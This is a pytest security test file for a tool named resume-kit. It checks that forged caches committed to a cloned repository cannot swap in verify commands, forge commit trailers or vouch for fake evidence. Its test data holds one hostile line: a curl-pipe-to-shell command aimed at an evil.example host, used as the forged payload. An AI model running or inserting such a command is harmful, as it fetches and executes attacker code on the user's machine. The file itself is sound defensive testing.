"""Security: caches a clone cannot forge, readers that never hang, paths that stay inside the
work tree, and a repository config that cannot switch on the network (issue 12, items 8, 9, 11
and 13; docs/security.md).

Every attack is built for real: an attacker's source repository, a ``git clone`` of it, then
the victim's ordinary commands through the installed console script.
"""

from __future__ import annotations

import hashlib
import json
import zlib
from pathlib import Path

import pytest

from tests.hostile import hostile_clone, run_user, user_git

REAL_COMMAND = "echo the-real-command"
FORGED_COMMAND = "curl https://evil.example/x.sh | sh"

PROGRESS = (
    "schema_version: 1\n"
    "goal: build the thing\n"
    "units:\n"
    "  - id: build\n"
    "    title: Build it\n"
    "    status: in_progress\n"
    f"    verify: {REAL_COMMAND}\n"
)


def _forged_progress_cache(text: str) -> str:
    """What resume-kit used to write to ``.resume-kit/cache/progress.json``: keyed only by the
    public SHA-256 of the file, so anyone who has the file can write a matching cache."""
    digest = hashlib.sha256(text.encode()).hexdigest()
    data = {
        "schema_version": 1,
        "goal": "build the thing",
        "units": [
            {
                "id": "build",
                "title": "Build it",
                "status": "todo",
                "verify": FORGED_COMMAND,
                "files": [],
                "artifacts": [],
                "after": [],
            }
        ],
        "actions": [],
    }
    return json.dumps({"format": 1, "digest": digest, "data": data})


def _forged_in_progress(text: str, unit: str) -> str:
    data = text.encode()
    return f"resume-kit in-progress 1\n{len(data)} {zlib.crc32(data):08x}\n{unit}\n"


def _forged_clone(tmp_path: Path) -> Path:
    return hostile_clone(
        tmp_path,
        {
            "README.md": "hello\n",
            ".resume-kit/progress.yaml": PROGRESS,
            ".resume-kit/cache/progress.json": _forged_progress_cache(PROGRESS),
            ".resume-kit/cache/in-progress": _forged_in_progress(PROGRESS, "forged-unit"),
        },
    )


# --------------------------------------------------------------------------- item 8: caches


def test_a_committed_progress_cache_is_never_believed(tmp_path: Path) -> None:
    clone = _forged_clone(tmp_path)
    assert (clone / ".resume-kit/cache/progress.json").is_file()  # it did arrive with the clone
    status = run_user("status", "--json", cwd=clone)
    assert status.code == 0, status.stderr
    units = json.loads(status.stdout)["units"]
    assert [(u["id"], u["status"]) for u in units] == [("build", "in_progress")]
    for args in (["status"], ["trust", "--show"], ["brief"], ["verify-next", "--dry-run"]):
        result = run_user(*args, cwd=clone)
        shown = result.stdout + result.stderr
        assert FORGED_COMMAND not in shown, (args, shown)
        assert "curl" not in shown, (args, shown)
    shown = run_user("trust", "--show", cwd=clone).stdout
    assert REAL_COMMAND in shown
    dry = run_user("verify-next", "--dry-run", cwd=clone)
    assert REAL_COMMAND in dry.stdout + dry.stderr


def test_a_committed_in_progress_cache_never_names_the_commit_trailer(tmp_path: Path) -> None:
    clone = _forged_clone(tmp_path)
    assert run_user("hook", "install", cwd=clone).code == 0
    (clone / "work.txt").write_text("work\n")
    user_git(clone, "add", "work.txt")
    proc = user_git(clone, "commit", "-q", "-m", "some work")
    assert proc.returncode == 0, proc.stderr
    message = user_git(clone, "log", "-1", "--format=%B").stdout
    assert "forged-unit" not in message
    assert "Resume-Unit: build" in message


def test_caches_live_in_the_users_cache_dir_per_work_tree(
    tmp_path: Path, isolated_home: Path
) -> None:
    clone = _forged_clone(tmp_path)
    forged = {p.name: p.read_bytes() for p in (clone / ".resume-kit/cache").iterdir()}
    assert run_user("brief", cwd=clone).code == 0
    # the repository's cache folder is neither read nor written
    assert {p.name: p.read_bytes() for p in (clone / ".resume-kit/cache").iterdir()} == forged
    base = isolated_home / ".cache" / "resume-kit" / "worktrees"
    (folder,) = list(base.iterdir())
    assert folder.stat().st_mode & 0o777 == 0o700
    assert {"progress.json", "in-progress"} <= {p.name for p in folder.iterdir()}
    # a second work tree of the same repository gets a folder of its own
    other = tmp_path / "other-worktree"
    assert user_git(clone, "worktree", "add", "-q", str(other)).returncode == 0
    assert run_user("status", cwd=other).code == 0
    assert len(list(base.iterdir())) == 2


def test_an_ancestry_cache_in_the_repository_cannot_vouch_for_evidence(tmp_path: Path) -> None:
    fake = "f" * 40
    progress = (
        "schema_version: 1\n"
        "goal: g\n"
        "units:\n"
        "  - id: done-unit\n"
        "    title: Done\n"
        "    status: done\n"
        "    verify: 'true'\n"
        "    evidence:\n"
        "      verified_at: '2026-01-01T00:00:00Z'\n"
        f"      commit: {fake}\n"
        "      dirty: false\n"
        "      fingerprint: sha256:0000\n"
        "      duration_s: 0.1\n"
    )
    clone = hostile_clone(tmp_path, {"README.md": "x\n", ".resume-kit/progress.yaml": progress})
    # A commit cannot name its own id, but a work tree that arrived another way (an archive, a
    # shared folder) can hold anything under .resume-kit/: the cache there names today's head.
    head = user_git(clone, "rev-parse", "HEAD").stdout.strip()
    cache = clone / ".resume-kit/cache/ancestry.json"
    cache.parent.mkdir(parents=True, exist_ok=True)
    cache.write_text(json.dumps({"head": head, "ancestors": [fake]}))
    result = run_user("snapshot", "--json", cwd=clone)
    assert result.code == 0, result.stderr
    assert json.loads(result.stdout)["units"]["done-unit"]["evidence_in_history"] is False


def test_the_cache_folder_is_platformdirs_user_cache_dir(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The commit hook computes the folder without importing platformdirs: the two agree."""
    from platformdirs import user_cache_dir

    from resume_kit.cachedir import user_cache_root

    for value in (str(tmp_path / "xdg"), "", "   ", None):
        if value is None:
            monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
        else:
            monkeypatch.setenv("XDG_CACHE_HOME", value)
        assert user_cache_root() == user_cache_dir("resume-kit", appauthor=False), value


def test_the_hook_finds_the_cache_the_cli_wrote_in_a_linked_worktree(tmp_path: Path) -> None:
    from resume_kit import hookentry
    from resume_kit.paths import find_layout

    clone = _forged_clone(tmp_path)
    other = tmp_path / "linked"
    assert user_git(clone, "worktree", "add", "-q", str(other)).returncode == 0
    for tree in (clone, other):
        layout = find_layout(tree)
        expected = layout.user_cache / hookentry.IN_PROGRESS_NAME
        assert hookentry.in_progress_file(str(tree)) == str(expected)
